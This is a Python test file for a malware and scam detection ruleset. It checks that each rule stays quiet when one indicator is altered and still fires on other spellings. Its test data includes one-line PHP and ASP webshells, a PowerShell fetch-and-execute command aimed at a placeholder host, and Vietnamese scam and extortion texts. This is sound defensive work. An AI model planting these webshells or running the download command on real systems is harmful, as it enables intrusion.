"""Each of our rules against its sample with one thing missing: then it must be quiet.

And against the same sample in other spellings, where it must still speak.
"""

# ruff: noqa: E501 - a row is one line

from typing import Any

import pytest
from tests.extractors.rulesets.samples import BENIGN, POSITIVE

from truyvet.extractors.rulesets.compiling import compile_files
from truyvet.extractors.rulesets.files import own_files

# Rule: what is taken out of its sample or changed; each row alone silences it.
NEAR: dict[str, list[tuple[str, str]]] = {
    "webshell_php_runs_request": [
        ("<?php", "<?xml"),
        ("$_POST", "$post"),
        ("eval", "evil"),
        ("['x']", ""),
    ],
    "webshell_php_packed": [
        ("<?php", "<?xml"),
        ("eval(", "print("),
        ("gzinflate(base64_decode", "json_decode(trim"),
        ("QUJD" * 80, "QUJD" * 40),
    ],
    "webshell_php_known_name": [("b374k", "b374"), ("(", "["), ("<?php", "<?")],
    "webshell_jsp_runs_request": [
        ("<%", "<"),
        ("getRuntime", "runtime"),
        ("request.getParameter", "config.get"),
    ],
    "webshell_asp_runs_request": [
        ("eval request", "print request"),
        ("request(", "config("),
        ("<%", "<"),
    ],
    "webshell_shared_key": [
        ("e45e329feb" + "5d925b", "e45e329feb5d925c"),
        ("<?php", "<?xml"),
        ('"e45e', '"0e45e'),
    ],
    "phishing_vn_telegram_exfiltration": [
        ("api.telegram.org/bot", "api.example.org/bot"),
        ("sendMessage", "getMe"),
        ("chat_id", "to"),
        ("otp", "note"),
    ],
    "phishing_vn_bank_kit": [
        ("./xacthuc.php", "https://vcbdigibank.vn/login"),
        ("otp", "note"),
        ("Vietcombank - Ngân hàng số", "Trang chủ"),
    ],
    "phishing_vn_kit_script": [
        ("'username'", "'title'"),
        ("'password'", "'text'"),
        ("file_put_contents", "strlen"),
        ("REMOTE_ADDR", "HOST"),
    ],
    "phishing_vn_government_app": [
        (".apk", ".pdf"),
        ("<html><body>Cài đặt VNeID, Bộ Công an <a ", "Cài đặt VNeID "),
    ],
    "phishing_vn_refund": [
        ("Shopee", "Cửa hàng"),
        ("hoàn tiền", "cảm ơn"),
        ("gui.php", "gui.html"),
        ("otp", "note"),
        ("so_tai_khoan", "ghi_chu"),
    ],
    "phishing_kit_visitor_filter": [
        ("phishtank", "x"),
        ("googlebot", "x"),
        ("404 Not Found", "200 OK"),
        ("HTTP_USER_AGENT", "HOST"),
        ("<?php", "<?"),
    ],
    "scam_vn_easy_job": [
        ("việc nhẹ lương cao", "việc tốt"),
        ("ib zalo.me/", "lh "),
        ("làm tại nhà, không cần kinh nghiệm", "đi làm"),
        ("300k", "Cảnh báo 300k"),
    ],
    "scam_vn_task_site": [
        ("Nạp tiền", "Xin chào"),
        ("Rút tiền", "Tạm biệt"),
        ("Ghép đơn", "Đơn hàng"),
        ("đóng băng", "mở"),
        ("Nhiệm vụ", "cảnh giác"),
    ],
    "scam_vn_loan_fee": [
        ("Vay tiền nhanh, khoản vay", "Chúc mừng"),
        ("CCCD", "hồ sơ"),
        ("nhập sai tài khoản", "nhập đúng"),
        ("phí giải ngân", "tiền"),
        ("Bạn", "Nạn nhân bị lừa,"),
    ],
    "scam_vn_police_call": [
        ("Viện kiểm sát", "Ngân hàng"),
        ("lệnh bắt", "lịch hẹn"),
        ("tài khoản tạm giữ", "tài khoản"),
        ("giữ bí mật, không được tắt máy", "cảm ơn"),
        ("anh", "anh (cơ quan công an cảnh báo)"),
    ],
    "android_manifest_remote_control": [
        ("BIND_ACCESSIBILITY_SERVICE", "CAMERA"),
        ("SYSTEM_ALERT_WINDOW", "INTERNET"),
        ("RECEIVE_SMS", "VIBRATE"),
        ("REQUEST_INSTALL_PACKAGES", "NFC"),
        ("RECEIVE_BOOT_COMPLETED", "WAKE_LOCK"),
        ("\x03\0\x08\0", "\x03\0\x09\0"),
    ],
    "android_dex_vietnamese_bank_targets": [
        ("com.VCB", "com.ABC"),
        ("onAccessibilityEvent", "onEvent"),
        ("dispatchGesture", "dispatch"),
        ("dex\n", "odex"),
    ],
    "android_dex_sms_to_telegram": [
        ("api.telegram.org/bot", "api.telegram.org/"),
        ("createFromPdu", "create"),
        ("dex\n", "odex"),
    ],
    "android_dex_identity_harvest": [
        ("face_video", "video"),
        ("idCardFront", "front"),
        ("content://sms", "content://contacts"),
        ("socks5", "http"),
        ("dex\n", "odex"),
    ],
    "android_dex_screen_control": [
        ("createVirtualDisplay", "createDisplay"),
        ("dispatchGesture", "dispatch"),
        ("bank_card", "card"),
        ("createFromPdu", "create"),
        ("dex\n", "odex"),
    ],
    "android_package_strategy_library": [
        ("libstrategy.so", "libstrateg.so"),
        ("AndroidManifest.xml", "manifest.xml"),
        ("classes.dex", "a.dex"),
        ("PK\x03\x04", "PK\x05\x06"),
        ("arm64-v8a", "mips"),
    ],
    "crypto_wallet_drainer": [
        ("Inferno" + " Drainer", "Inferno"),
        ("window.ethereum.request({method:'eth_requestAccounts'})", "x()"),
        ("setApprovalForAll", "approve"),
    ],
    "crypto_seed_phrase_form": [
        ("MetaMask", "Ví"),
        ("12-word recovery phrase", "mật khẩu"),
        ("send.php", "https://a.vn/x"),
        ('name="phrase"', 'name="x"'),
        ("<form", "<div"),
    ],
    "crypto_fake_exchange_vn": [
        ("Quyền chọn nhị" + " phân", "Tin tức"),
        ("Nạp USDT", "Xem"),
        ("Rút tiền", "Xem"),
        ("Cam kết lợi nhuận", "Lợi nhuận"),
        ("control" + "_win", "control"),
    ],
    "macro_auto_runs_program": [
        ("AutoOpen", "MyOpen"),
        ("Sub ", "Function "),
        ("powershell -w", "notepad w"),
    ],
    "script_download_and_run": [
        ("IEX", "Echo"),
        ("DownloadString", "Upload"),
        ("-nop -w hidden", ""),
    ],
    "script_encoded_powershell": [
        ("powershell", "shell"),
        ("-enc", "-file"),
        ("SQBFAFgA" * 20, "SQBFAFgA" * 10),
    ],
    "shortcut_runs_script": [
        ("powershell", "notepad"),
        ("https://", "file "),
        ("L\0\0\0", "M\0\0\0"),
    ],
    "html_application_runs_program": [
        ("CreateObject", "Create"),
        (".Run", ".Show"),
        ("cmd /c", "calc"),
        ("<script", "<style"),
    ],
    "rtf_equation_exploit": [("{\\rtf", "{\\doc"), ("\\objdata", "\\pict"), ("02ce02", "02ce03")],
    "script_browser_stealer": [
        ("api.telegram.org/bot", "api.example.org/"),
        ("os_crypt']['encrypted_key", "x"),
    ],
    "credentials_combo_list": [
        ("@gmail.com:", "@gmail.com "),
        ("@gmail.com", "@congty.vn"),
        ("matkhau", "x y "),
    ],
    "credentials_url_login_password": [("https://", ""), (":nguoi", " nguoi"), (":matkhau", " ")],
    "credentials_stealer_passwords": [
        ("URL: ", "Link: "),
        ("Username: ", "Name: "),
        ("Password: ", "Note: "),
        ("Application: ", "App: "),
    ],
    "credentials_stealer_machine": [
        ("ID: ", "IX: "),
        ("Operation System: Windows 10\nCurrent Language", "System"),
    ],
    "credentials_password_hashes": [("$2y$10$", "$2y$1$"), ("a" * 53, "a" * 52)],
    "rat_asyncrat": [("MZ", "ZM"), ("AsyncClient", "Client"), ("ActivatePong", "Pong")],
    "rat_njrat": [("MZ", "ZM"), ("[kl]", "[k]"), ("|'|'|", "|||")],
    "rat_quasar": [("MZ", "ZM"), ("Quasar.Client", "Client"), ("DoShellExecuteResponse", "Do")],
    "rat_remcos": [
        ("MZ", "ZM"),
        ("Breaking-Security.Net", "example.net"),
        ("Remcos_Mutex_Inj", "Mutex"),
    ],
    "rat_xworm": [("MZ", "ZM"), ("<Xwormmm>", "<Xworm>")],
    "stealer_windows_program": [
        ("MZ", "ZM"),
        ("\\CocCoc\\", "\\Edge\\"),
        ("wallet.dat", "a.dat"),
        ("encrypted_key", "key"),
    ],
    "keylogger_windows_program": [
        ("MZ", "ZM"),
        ("[CAPSLOCK]", "[F1]"),
        ("SetWindowsHookEx", "GetWindow"),
        ("Keystrokes", "Keys"),
        ("smtp.x", "x"),
        ("Screenshot", "Shot"),
    ],
    "beacon_cobalt_strike": [("length of %d bytes!", "length"), ("MZ", "ZM")],
    "ransom_note": [
        ("have been encrypted", "are safe"),
        ("All of your files", "All"),
        (".onion", ".com"),
        ("Bitcoin in Tor Browser", "money in a browser"),
        (
            "files",
            "condition: files",
        ),
    ],
    "extortion_video_letter": [
        ("clip nóng", "ảnh đẹp"),
        ("gửi cho gia đình, tung lên mạng", "xem một mình"),
        ("chuyển khoản 50 triệu", "xin chào"),
        ("mày", "nạn nhân"),
    ],
}
ROWS = [(rule, old, new) for rule, changes in NEAR.items() for old, new in changes]


@pytest.fixture(scope="module")
def rules() -> Any:
    return compile_files(own_files())


def names(rules: Any, content: bytes) -> set[str]:
    """The rules that match."""
    return {match.rule for match in rules.rules.match(data=content)}


def sample(rule: str) -> bytes:
    """The sample of a rule as bytes."""
    made = POSITIVE[rule]()
    return made.encode() if isinstance(made, str) else made


def changed(content: bytes, old: str, new: str) -> bytes:
    """The sample with one thing changed, in either encoding of Windows programs."""
    narrow = content.replace(old.encode(), new.encode())
    return narrow.replace(old.encode("utf-16-le"), new.encode("utf-16-le"))


def test_every_rule_has_near_misses() -> None:
    assert set(NEAR) == set(POSITIVE)
    assert all(len(changes) >= 2 for changes in NEAR.values())


@pytest.mark.parametrize(("rule", "old", "new"), ROWS)
def test_with_one_thing_missing_a_rule_is_quiet(rules: Any, rule: str, old: str, new: str) -> None:
    content = sample(rule)
    other = changed(content, old, new)
    assert other != content, "the row changes nothing"
    assert rule not in names(rules, other)


@pytest.mark.parametrize("rule", POSITIVE)
@pytest.mark.parametrize("behind", [b"", b"\n", b"\0" * 4_096, b"\xff" * 100_000])
def test_what_follows_a_sample_does_not_hide_it(rules: Any, rule: str, behind: bytes) -> None:
    assert rule in names(rules, sample(rule) + behind)


@pytest.mark.parametrize("rule", POSITIVE)
def test_ends_of_lines_of_windows_do_not_hide_it(rules: Any, rule: str) -> None:
    made = POSITIVE[rule]()
    if isinstance(made, str):
        assert rule in names(rules, made.replace("\n", "\r\n").encode())


# The same thing as others write it.
SPELLED: dict[str, list[str]] = {
    "webshell_php_runs_request": [
        "<" + "?php SYS" + "TEM ( $_" + "GET [ 'c' ] );",
        "<" + "?= `{$_" + "REQUEST['c']}` ?>",
        "<" + "?php $_" + "GET['f']($_" + "POST['c']);",
    ],
    "webshell_asp_runs_request": ["<" + "%exe" + 'cute(request.form("x"))%>'],
    "script_download_and_run": ["power" + 'shell -NoProfile "irm http://a.invalid/x | ie' + 'x"'],
    "rtf_equation_exploit": ["{\\rt" + "f1 {\\*\\obj" + "class Equation." + "3}}"],
    "extortion_video_letter": [
        "I recor"
        "ded you on your webcam. I will send it to all of your contacts unless you pay 900 USD in BTC"
    ],
    "ransom_note": [
        "Tệp của bạn đã bị mã hóa. Muốn giải mã: trả USDT, không đổi tên tệp, liên hệ tor browser"
    ],
    "scam_vn_easy_job": ["Tuyển CTV thả tim, 50k mỗi đơn, tele" + "gram @abc"],
    "scam_vn_police_call": [
        "VIỆN KIỂM SÁT, LỆNH BẮT: chuyển toàn bộ" + " tiền, cung cấp mã" + " OTP"
    ],
}


@pytest.mark.parametrize("rule", SPELLED)
def test_other_spellings_are_found_too(rules: Any, rule: str) -> None:
    for text in SPELLED[rule]:
        assert rule in names(rules, text.encode()), text


@pytest.mark.parametrize(
    "rule", ["rat_asyncrat", "rat_quasar", "rat_remcos", "stealer_windows_program"]
)
def test_words_of_programs_are_found_in_both_encodings(rules: Any, rule: str) -> None:
    content = sample(rule)
    wide = content[:64] + content[64:].decode().encode("utf-16-le")
    assert rule in names(rules, wide)


@pytest.mark.parametrize(
    "rule",
    [name for name in POSITIVE if name.startswith(("webshell", "phishing", "scam", "extortion"))],
)
def test_texts_beyond_their_bound_are_not_asked(rules: Any, rule: str) -> None:
    assert rule not in names(rules, sample(rule) + b" " * (21 << 20))


@pytest.mark.parametrize("one", BENIGN)
@pytest.mark.parametrize("other", list(BENIGN)[::5])
def test_harmless_texts_together_stay_harmless_for_programs(
    rules: Any, one: str, other: str
) -> None:
    parts = [
        text.encode() if isinstance(text, str) else text for text in (BENIGN[one], BENIGN[other])
    ]
    assert {
        name
        for name in names(rules, b"\n".join(parts))
        if name.startswith(("rat_", "beacon", "android_"))
    } == set()
